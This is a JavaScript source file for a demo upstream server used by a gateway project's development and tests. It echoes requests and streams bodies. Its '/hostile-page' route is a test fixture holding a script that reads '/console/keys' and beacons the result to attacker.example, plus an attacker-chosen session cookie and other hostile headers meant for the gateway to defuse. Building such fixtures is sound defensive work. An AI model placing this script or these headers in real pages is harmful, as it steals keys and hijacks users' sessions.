// The demo upstream `npm run dev` starts beside the gateway (and the tests use as their local
// upstream): it echoes what it received, so you can see what the gateway forwards.
const encoder = new TextEncoder();

export default {
  async fetch(request) {
    const url = new URL(request.url);
    if (url.pathname === "/stream") {
      // A long streamed body: proves the gateway streams instead of buffering.
      const chunks = Math.min(Number(url.searchParams.get("chunks") ?? 100), 10_000);
      let i = 0;
      const body = new ReadableStream({
        pull(controller) {
          if (i >= chunks) return controller.close();
          controller.enqueue(encoder.encode(`chunk ${i++} ${"x".repeat(1000)}\n`));
        },
      });
      return new Response(body, { headers: { "content-type": "text/plain", "x-demo-upstream": "stream" } });
    }
    if (url.pathname.endsWith("/hostile-page")) {
      // What a compromised or careless upstream could send: a page with script that reads the
      // console's CSRF token, and cookies aimed at the console's session. The gateway must defuse it.
      const headers = new Headers({ "content-type": "text/html; charset=utf-8", "x-demo-upstream": "hostile-page" });
      headers.set("content-security-policy", "sandbox allow-scripts allow-same-origin allow-forms; img-src 'self'");
      headers.append("set-cookie", "keygate_session=attacker-chosen-session-id-000000000000000000; Path=/console; HttpOnly");
      headers.append("set-cookie", "__Host-fixed=1; Path=/; Secure");
      headers.append("set-cookie", "tracker=1");
      headers.set("clear-site-data", '"cookies", "storage"');
      headers.set("service-worker-allowed", "/");
      const page =
        "<!doctype html><title>upstream</title><script>" +
        "fetch('/console/keys').then(r => r.text()).then(t => navigator.sendBeacon('https://attacker.example/', t));" +
        "</script><form method=post action=/console/sign-out><button>Sign out</button></form>";
      return new Response(page, { headers });
    }
    const body = request.body ? await request.text() : "";
    return Response.json(
      {
        upstream: "keygate demo upstream",
        method: request.method,
        path: url.pathname,
        query: url.search,
        headers: Object.fromEntries(request.headers),
        bodyLength: body.length,
        bodySha256: [...new Uint8Array(await crypto.subtle.digest("SHA-256", encoder.encode(body)))]
          .map((b) => b.toString(16).padStart(2, "0"))
          .join(""),
      },
      { status: url.pathname.endsWith("/teapot") ? 418 : 200, headers: { "x-demo-upstream": "echo", "set-cookie": "demo=1; Path=/" } },
    );
  },
};
